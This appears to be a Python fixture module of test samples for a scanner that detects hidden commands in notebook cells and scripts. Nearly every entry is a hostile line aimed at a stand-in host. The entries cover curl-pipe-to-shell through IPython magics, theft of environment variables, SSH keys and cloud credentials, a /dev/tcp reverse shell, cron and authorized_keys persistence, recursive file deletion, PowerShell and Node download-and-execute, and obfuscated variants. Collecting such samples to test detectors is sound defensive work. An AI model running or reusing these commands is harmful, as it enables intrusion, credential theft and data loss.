"""Notebooks and scripts of a third round: magics, and commands that hide."""

# ruff: noqa: E501 # sources stand as people write them
from __future__ import annotations

__all__ = ["CELLS", "FILES"]

CELLS: dict[str, list[str]] = {
    "run-magic": ["%run -i weights.bin"],
    "script-magic": ["%%script bash\ncurl -s http://assay.invalid/x | sh"],
    "script-magic-args": ["%%script --bg bash\ncurl -s http://assay.invalid/x | sh"],
    "writefile-bashrc": ["%%writefile ~/.bashrc\ncurl -s http://assay.invalid/x | sh"],
    "writefile-append": ["%%writefile -a /home/user/.profile\necho assay"],
    "interpolated": ["u='http://assay.invalid/x'\n!curl -s {u} | sh"],
    "interpolated-cmd": ["c='curl http://assay.invalid/x | sh'\n!{c}"],
    "interpolated-dollar": ["c='curl http://assay.invalid/x | sh'\n!$c"],
    "getoutput": ["get_ipython().getoutput('curl http://assay.invalid/x | sh')"],
    "run-cell": [
        "get_ipython().run_cell_magic('bash','','curl http://assay.invalid/x | sh')"
    ],
    "run-line": [
        "get_ipython().run_line_magic('system','curl http://assay.invalid/x | sh')"
    ],
    "sx": ["%sx curl http://assay.invalid/x | sh"],
    "double-bang": ["!!curl http://assay.invalid/x | sh"],
    "cell-bang": ["%%!\ncurl http://assay.invalid/x | sh"],
    "python-cell": [
        "%%python3\nimport os, requests\nrequests.post('https://assay.invalid', json=dict(os.environ))"
    ],
    "pypy-cell": ["%%python\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))"],
    "capture-cell": ["%%capture\n!curl http://assay.invalid/x | sh"],
    "time-cell": ["%%time\n!curl http://assay.invalid/x | sh"],
    "ruby-cell": ["%%ruby\nsystem('curl http://assay.invalid/x | sh')"],
    "perl-cell": ["%%perl\nsystem('curl http://assay.invalid/x | sh')"],
    "html-cell": [
        "%%html\n<script>fetch('https://assay.invalid/?'+document.cookie)</script>"
    ],
    "js-cell": [
        "%%javascript\nIPython.notebook.kernel.execute('import os; os.system(\"id\")')"
    ],
    "alias": ["%alias x curl http://assay.invalid/x | sh"],
    "conda-index": ["%conda install -c https://assay.invalid/conda x"],
    "indented": ["if True:\n    !curl http://assay.invalid/x | sh"],
    "assign-magic": ["x = %sx curl http://assay.invalid/x | sh"],
    "in-loop": ["for i in range(1):\n    out = !curl http://assay.invalid/x | sh"],
    "key-read": ["from pathlib import Path\n(Path.home()/'.ssh'/'id_rsa').read_text()"],
    "metadata": [
        "!curl http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    ],
}
FILES: dict[str, dict[str, str]] = {
    "sh-metadata": {
        "run.sh": "#!/bin/sh\ncurl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role | curl -d @- https://assay.invalid\n"
    },
    "sh-var": {"run.sh": "#!/bin/sh\nU=https://assay.invalid/x\ncurl -s $U | sh\n"},
    "sh-two-lines": {
        "run.sh": "#!/bin/sh\ncurl -s https://assay.invalid/x -o /tmp/x\nchmod +x /tmp/x\n/tmp/x\n"
    },
    "sh-two-lines-sh": {
        "run.sh": "#!/bin/sh\nwget -q https://assay.invalid/x.sh\nbash x.sh\n"
    },
    "sh-eval": {"run.sh": '#!/bin/bash\neval "$(curl -s https://assay.invalid/x)"\n'},
    "sh-source": {"run.sh": "#!/bin/bash\nsource <(curl -s https://assay.invalid/x)\n"},
    "sh-dot": {"run.sh": "#!/bin/bash\n. <(curl -s https://assay.invalid/x)\n"},
    "sh-python": {
        "run.sh": "#!/bin/bash\npython3 -c \"import urllib.request as u; exec(u.urlopen('http://assay.invalid').read())\"\n"
    },
    "sh-hex": {
        "run.sh": "#!/bin/bash\n$'\\x63\\x75\\x72\\x6c' http://assay.invalid | $'\\x73\\x68'\n"
    },
    "sh-quotes": {"run.sh": "#!/bin/bash\nc''url -s http://assay.invalid | s\\h\n"},
    "sh-ifs": {"run.sh": "#!/bin/bash\ncurl${IFS}-s${IFS}http://assay.invalid|sh\n"},
    "sh-xargs": {
        "run.sh": "#!/bin/bash\ncurl -s http://assay.invalid | xargs -I{} sh -c '{}'\n"
    },
    "sh-tee": {
        "run.sh": "#!/bin/bash\ncurl -s http://assay.invalid | tee /tmp/x | bash\n"
    },
    "sh-cron": {
        "run.sh": "#!/bin/bash\n(crontab -l 2>/dev/null; echo '* * * * * x') | crontab -\n"
    },
    "sh-keys": {
        "run.sh": "#!/bin/bash\necho ssh-ed25519 AAAA >> ~/.ssh/authorized_keys\n"
    },
    "sh-alias": {"run.sh": "#!/bin/bash\necho \"alias ls='x'\" >> ~/.bashrc\n"},
    "sh-env": {
        "run.sh": "#!/bin/bash\nenv | base64 | curl -d @- https://assay.invalid\n"
    },
    "sh-tar-keys": {
        "run.sh": "#!/bin/bash\ntar cz ~/.ssh ~/.aws | curl -T - https://assay.invalid\n"
    },
    "sh-scp": {"run.sh": "#!/bin/bash\nscp ~/.ssh/id_rsa x@assay.invalid:\n"},
    "sh-devtcp": {
        "run.sh": "#!/bin/bash\nexec 5<>/dev/tcp/assay.invalid/4444; cat <&5 | while read l; do $l 2>&5 >&5; done\n"
    },
    "sh-dns": {"run.sh": "#!/bin/bash\nnslookup $(whoami).assay.invalid\n"},
    "sh-dig": {
        "run.sh": "#!/bin/bash\ndig +short $(cat /etc/passwd | base64 | head -c 40).assay.invalid\n"
    },
    "sh-find-rm": {"run.sh": "#!/bin/bash\nfind / -type f -delete\n"},
    "bat": {
        "run.bat": '@echo off\r\npowershell -w hidden -c "iwr https://assay.invalid/x.exe -o x.exe; start x.exe"\r\n'
    },
    "bat-curl": {"run.bat": "curl -o x.exe https://assay.invalid/x.exe && x.exe\r\n"},
    "ps-b64": {
        "run.ps1": "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4')) | iex\n"
    },
    "ps-reflect": {
        "run.ps1": "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://assay.invalid'))\n"
    },
    "setup-cfg-cmd": {
        "setup.py": "from setuptools import setup\nfrom setuptools.command.egg_info import egg_info\nimport os\nclass E(egg_info):\n    def run(self):\n        os.system('curl http://assay.invalid')\n        egg_info.run(self)\nsetup(cmdclass={'egg_info':E})\n"
    },
    "setup-ext": {
        "setup.py": "import os\nfrom setuptools import setup\nsetup(name=os.popen('echo x').read())\n"
    },
    "node-net": {
        "index.js": "const h=require('https');h.get('https://assay.invalid/x',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\n"
    },
    "node-import": {
        "index.mjs": "import { exec } from 'node:child_process';\nexec('id')\n"
    },
    "node-env": {
        "index.js": "fetch('https://assay.invalid',{method:'POST',body:JSON.stringify(process.env)})\n"
    },
    "svg": {
        "x.svg": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('https://assay.invalid/?'+document.cookie)\"/>\n"
    },
}
